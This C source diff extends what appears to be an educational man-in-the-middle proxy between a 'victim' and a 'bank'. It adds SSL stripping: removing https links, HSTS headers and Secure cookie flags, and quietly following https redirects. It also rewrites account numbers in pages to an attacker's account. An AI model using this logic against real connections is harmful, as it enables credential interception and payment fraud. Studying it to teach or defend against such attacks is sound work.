@@ -22,6 +22,7 @@ void exchange_init(struct exchange *x, struct trace *trace, struct loot *loot, c
 	    .blind = blind,
 	    .rewrite = rewrite,
 	    .state = blind ? EXCHANGE_PASS : EXCHANGE_REQUEST};
+	snprintf(x->host, sizeof x->host, "%s", names->bank);
 	buf_init(&x->request, EXCHANGE_REQUEST_MAX);
 	/* the head that is sent on has at most a few octets more than the victim's */
 	buf_init(&x->to_bank, blind ? BLIND_MAX : EXCHANGE_REQUEST_MAX + 256);
@@ -204,6 +205,11 @@ static void take_request(struct exchange *x, const struct http *h)
 	describe(x, p, x->request.len);
 	if (http_is_form(h, p))
 		read_form(x, h);
+	struct http_header host;
+	if (!http_header_find(h, p, "Host", &host) ||
+	    !strip_host(x->host, p + host.value.off, host.value.len, x->names.bank))
+		snprintf(x->host, sizeof x->host, "%s", x->names.bank);
+	x->secure = x->strip && strip_insists(x->strip, x->host);
 	enum err e = pass_request(x, h);
 	if (e) {
 		refuse(x, e, "500 Internal Server Error", "the request does not fit");
@@ -281,28 +287,72 @@ static bool is_page(const struct http *h, const uint8_t *p)
 	       http_span_is_nocase(p, (struct http_span){hd.value.off, sizeof html - 1}, html);
 }
 
-static enum err correct_length(struct exchange *x, const struct http *h)
+/* The page has grown or shrunk: its head has to say so. */
+static enum err correct_length(struct exchange *x, size_t before)
 {
+	struct http h;
 	struct http_header hd;
-	if (!h->has_length || !http_header_find(h, x->to_victim.data, "Content-Length", &hd))
+	size_t at;
+	if (http_parse(&h, x->to_victim.data, x->to_victim.len, &at) != ERR_OK ||
+	    x->to_victim.len - h.body_off == before || !h.has_length ||
+	    !http_header_find(&h, x->to_victim.data, "Content-Length", &hd))
 		return ERR_OK;
 	char length[24];
-	int n = snprintf(length, sizeof length, "%zu", x->to_victim.len - h->body_off);
+	int n = snprintf(length, sizeof length, "%zu", x->to_victim.len - h.body_off);
 	return buf_replace(&x->to_victim, hd.value.off, hd.value.len, length, (size_t)n);
 }
 
-static enum err change_page(struct exchange *x, const struct http *h)
+static enum err change_accounts(struct exchange *x)
 {
-	size_t before = x->to_victim.len;
-	x->body_before = before - h->body_off;
-	enum err e = rewrite_page(&x->to_victim, h->body_off, &x->changed);
+	struct http h;
+	size_t at, before = x->to_victim.len;
+	enum err e = http_parse(&h, x->to_victim.data, x->to_victim.len, &at);
+	if (!e)
+		e = rewrite_page(&x->to_victim, h.body_off, &x->changed);
 	if (e || x->changed.changed == 0)
 		return e;
 	ev_state(x->trace, "page", "account number", x->changed.before, MALLORY_ACCOUNT,
 	    "connection %u: %u changed in the reply to %s; the page grows from %zu to %zu octets and its "
 	    "Content-Length with it",
-	    x->connection, x->changed.changed, x->line, before - h->body_off, x->to_victim.len - h->body_off);
-	return correct_length(x, h);
+	    x->connection, x->changed.changed, x->line, before - h.body_off, x->to_victim.len - h.body_off);
+	return ERR_OK;
+}
+
+static bool is_stripped(const struct strip_report *s)
+{
+	return s->links + s->headers + s->cookies > 0;
+}
+
+static void say_stripped(struct exchange *x)
+{
+	const struct strip_report *s = &x->stripped;
+	char links[STRIP_HOST_MAX + 64] = "";
+
+	if (s->links)
+		snprintf(
+		    links, sizeof links, " %u link%s to https (%s)", s->links, s->links == 1 ? "" : "s", s->link);
+	ev_decision(x->trace, "stripped", "RFC 6797 2.3.1",
+	    "connection %u: taken from the reply before the victim sees it:%s%s%s%s%s", x->connection, links,
+	    s->links && s->headers ? "," : "", s->headers ? " Strict-Transport-Security" : "",
+	    s->cookies && (s->links || s->headers) ? "," : "", s->cookies ? " the word Secure of its cookies" : "");
+}
+
+static enum err strip(struct exchange *x, bool page)
+{
+	enum err e = strip_reply(&x->to_victim, x->names.bank, page, &x->stripped);
+	if (!e && is_stripped(&x->stripped))
+		say_stripped(x);
+	return e;
+}
+
+static enum err change_page(struct exchange *x, const struct http *h)
+{
+	size_t before = x->to_victim.len - h->body_off;
+	x->body_before = before;
+	enum err e = x->strip ? strip(x, true) : ERR_OK;
+	if (!e && x->rewrite)
+		e = change_accounts(x);
+	return e ? e : correct_length(x, before);
 }
 
 static void note_reply(struct exchange *x, const struct http *h, size_t len)
@@ -317,12 +367,85 @@ static void note_reply(struct exchange *x, const struct http *h, size_t len)
 static void note_sent(struct exchange *x)
 {
 	char label[64];
-	snprintf(label, sizeof label, "reply %s%s", x->status, x->changed.changed ? ", changed" : "");
+	bool tampered = x->changed.changed > 0 || is_stripped(&x->stripped);
+	snprintf(label, sizeof label, "reply %s%s", x->status, tampered ? ", changed" : "");
 	tell(x, true, x->names.victim, label, x->to_victim.data, x->to_victim.len,
-	    x->changed.changed ? SECRECY_TAMPERED : SECRECY_CLEAR);
+	    tampered ? SECRECY_TAMPERED : SECRECY_CLEAR);
 	if (x->changed.changed)
 		describe_changes(x);
 	describe(x, x->to_victim.data, x->to_victim.len);
+}
+
+/* The bank wants the same request again, by https. The victim is not told. */
+static void ask_again(struct exchange *x)
+{
+	struct http h;
+	size_t at;
+
+	ev_decision(x->trace, "redirect-kept", "RFC 6797 2.3.1",
+	    "connection %u: %s wants this request by https. mallory puts it there itself, as an honest client does; "
+	    "the "
+	    "victim "
+	    "is not told, and stays with http",
+	    x->connection, x->host);
+	x->secure = x->again = x->kept = true;
+	x->bank_ended = x->reply_begun = false;
+	buf_release(&x->to_victim);
+	buf_release(&x->to_bank);
+	enum err e = http_parse(&h, x->request.data, x->request.len, &at);
+	if (!e)
+		e = pass_request(x, &h);
+	if (e) {
+		x->again = false;
+		refuse(x, e, "500 Internal Server Error", "the request does not fit");
+		return;
+	}
+	tell(x, true, x->names.bank, x->line, x->to_bank.data, x->to_bank.len, SECRECY_CLEAR);
+}
+
+/* Is the redirect's target what was asked for, only by https? */
+static bool is_same_place(const struct exchange *x, const struct http *reply, const struct strip_link *l)
+{
+	struct http h;
+	struct http_header hd;
+	size_t at;
+
+	if (strcmp(l->host, x->host) != 0 || http_parse(&h, x->request.data, x->request.len, &at) != ERR_OK ||
+	    !http_header_find(reply, x->to_victim.data, "Location", &hd))
+		return false;
+	struct http_span path = {hd.value.off + l->len, hd.value.len - l->len};
+	if (path.len == 0)
+		return http_span_is(x->request.data, h.target, "/");
+	return path.len == h.target.len &&
+	       memcmp(x->to_victim.data + path.off, x->request.data + h.target.off, path.len) == 0;
+}
+
+/* True when the reply is dealt with. */
+static bool keep_redirect(struct exchange *x, const struct http *h)
+{
+	struct strip_link l;
+
+	if (!x->strip || x->secure || !strip_is_redirect(h, x->to_victim.data, x->names.bank, &l))
+		return false;
+	strip_remember(x->strip, l.host);
+	if (!is_same_place(x, h, &l))
+		return false; /* the victim goes there by http, and mallory by https */
+	note_reply(x, h, x->to_victim.len);
+	ask_again(x);
+	return true;
+}
+
+/* What is no page passes as it comes; stripped, it lacks a word in its head. */
+static void pass_reply(struct exchange *x, const struct http *h, bool ended)
+{
+	if (h)
+		note_reply(x, h, x->to_victim.len);
+	if (h && x->strip && strip(x, false) != ERR_OK) {
+		refuse(x, ERR_TOO_LONG, "502 Bad Gateway", "the changed reply does not fit\n");
+		return;
+	}
+	note_sent(x);
+	x->state = ended ? EXCHANGE_DONE : EXCHANGE_PASS;
 }
 
 /* Decides what becomes of the held reply; ended: no more of it comes. */
@@ -334,24 +457,22 @@ static void look_at_reply(struct exchange *x, bool ended)
 	enum err e = http_parse(&h, reply->data, reply->len, &at);
 	if (e == ERR_TRUNCATED && !ended && reply->len < EXCHANGE_HEAD_MAX)
 		return;
-	bool full = buf_room(reply) < sizeof MALLORY_ACCOUNT;
-	if (!e && h.response && x->rewrite && is_page(&h, reply->data) && !full) {
-		bool whole = ended || (h.has_length && reply->len - h.body_off >= h.content_length);
-		if (!whole)
-			return;
-		note_reply(x, &h, reply->len);
-		e = change_page(x, &h);
-		if (e)
-			refuse(x, ERR_TOO_LONG, "502 Bad Gateway", "the changed page does not fit\n");
-		else
-			note_sent(x);
-		x->state = EXCHANGE_DONE;
+	bool is_reply = !e && h.response, full = buf_room(reply) < sizeof MALLORY_ACCOUNT;
+	if (is_reply && keep_redirect(x, &h))
+		return;
+	if (!is_reply || !(x->rewrite || x->strip) || !is_page(&h, reply->data) || full) {
+		pass_reply(x, is_reply ? &h : NULL, ended);
 		return;
 	}
-	if (!e && h.response)
-		note_reply(x, &h, reply->len);
-	note_sent(x);
-	x->state = ended ? EXCHANGE_DONE : EXCHANGE_PASS;
+	bool whole = ended || (h.has_length && reply->len - h.body_off >= h.content_length);
+	if (!whole)
+		return;
+	note_reply(x, &h, reply->len);
+	if (change_page(x, &h))
+		refuse(x, ERR_TOO_LONG, "502 Bad Gateway", "the changed page does not fit\n");
+	else
+		note_sent(x);
+	x->state = EXCHANGE_DONE;
 }
 
 void exchange_from_bank(struct exchange *x)
